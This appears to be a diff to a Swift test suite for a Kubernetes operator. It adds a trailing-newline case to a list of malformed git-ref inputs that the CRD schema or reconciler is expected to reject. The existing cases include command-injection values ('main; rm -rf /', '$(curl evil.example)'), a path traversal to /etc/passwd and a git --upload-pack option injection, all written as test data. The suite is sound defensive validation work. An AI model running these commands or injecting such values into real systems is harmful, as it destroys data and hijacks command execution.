@@ -40,6 +40,8 @@ struct BadMeteor: Sendable, CustomStringConvertible {
             BadMeteor(name: "ref-shell", field: "spec.ref", spec: spec(ref: "main; rm -rf /")),
             BadMeteor(name: "ref-subshell", field: "spec.ref", spec: spec(ref: "$(curl evil.example)")),
             BadMeteor(name: "ref-newline", field: "spec.ref", spec: spec(ref: "main\nrm -rf /")),
+            // ICU's `$` matches before a final newline; RE2's (kube-apiserver's) does not.
+            BadMeteor(name: "ref-trailing-newline", field: "spec.ref", spec: spec(ref: "main\n")),
             BadMeteor(name: "ref-dotdot", field: "spec.ref", spec: spec(ref: "../../etc/passwd")),
             BadMeteor(name: "ref-option", field: "spec.ref", spec: spec(ref: "--upload-pack=touch /tmp/x")),
             BadMeteor(name: "ref-huge", field: "spec.ref", spec: spec(ref: String(repeating: "r", count: 1 << 20))),
@@ -99,6 +101,7 @@ struct BadMeteor: Sendable, CustomStringConvertible {
         #expect(outcomes["ref-shell"] == "refused by the CRD schema (422)")
         #expect(outcomes["ref-dotdot"] == "InvalidSpec (spec.ref)")
         #expect(outcomes["credentials"] == "InvalidSpec (spec.url)")
+        #expect(outcomes["ref-trailing-newline"] == "refused by the CRD schema (422)")
     }
 
     /// Stored under the Go operator's laxer CRD, the same Meteors all reach the reconciler, which refuses each.
